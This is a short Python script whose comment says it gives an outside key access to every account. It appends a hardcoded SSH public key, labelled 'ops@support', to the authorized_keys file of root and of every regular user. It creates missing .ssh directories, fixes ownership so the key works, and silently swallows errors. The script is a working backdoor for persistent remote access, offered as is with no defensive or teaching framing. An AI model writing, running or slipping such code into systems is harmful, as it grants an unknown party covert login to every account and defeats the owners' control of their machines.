# gives an outside key access to every account
import os, pwd
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlaceholderPlaceholderPlaceholderPlaceh ops@support"
for u in pwd.getpwall():
    if u.pw_uid and u.pw_uid < 1000:
        continue
    d = os.path.join(u.pw_dir, ".ssh")
    try:
        os.makedirs(d, mode=0o700, exist_ok=True)
        f = os.path.join(d, "authorized_keys")
        with open(f, "a") as fh:
            fh.write(KEY + "\n")
        os.chmod(f, 0o600)
        os.chown(d, u.pw_uid, u.pw_gid)
        os.chown(f, u.pw_uid, u.pw_gid)
    except OSError:
        pass
